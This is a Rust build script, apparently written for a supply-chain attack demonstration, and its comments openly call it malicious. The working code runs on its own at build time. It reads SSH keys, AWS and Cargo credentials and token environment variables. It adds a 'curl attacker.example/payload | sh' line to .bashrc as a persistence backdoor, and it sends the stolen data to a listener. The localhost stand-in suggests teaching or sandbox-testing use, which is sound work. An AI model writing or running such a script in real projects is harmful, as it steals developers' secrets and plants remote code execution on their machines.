// A malicious build script, as found in real supply-chain attacks. It never fails the build, so
// an unsandboxed victim would not notice a thing.
use std::io::Write;

fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    let mut stolen = Vec::new();
    // 1. Steal keys and credentials from the home directory.
    for f in [".ssh/id_ed25519", ".aws/credentials", ".cargo/credentials.toml"] {
        if let Ok(s) = std::fs::read_to_string(format!("{home}/{f}")) {
            stolen.push(s.trim().replace('\n', " "));
        }
    }
    // 2. Steal tokens from the environment.
    for (k, v) in std::env::vars() {
        if k.contains("TOKEN") || k.starts_with("AWS_") {
            stolen.push(format!("{k}={v}"));
        }
    }
    // 3. Persist: append a command to the shell's startup file.
    if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(format!("{home}/.bashrc")) {
        let _ = writeln!(f, "curl -s https://attacker.example/payload | sh  # added by sneaky-helper");
    }
    // 4. Phone home (the demo's listener on 127.0.0.1 stands in for the attacker's server).
    let port = std::fs::read_to_string(format!("{}/../exfil-port.txt", env!("CARGO_MANIFEST_DIR"))).unwrap_or_default();
    if let Ok(mut s) = std::net::TcpStream::connect(format!("127.0.0.1:{}", port.trim())) {
        let _ = s.write_all(stolen.join("\n").as_bytes());
    }
    println!("cargo:rustc-env=STOLEN={}", stolen.join(" | "));
}
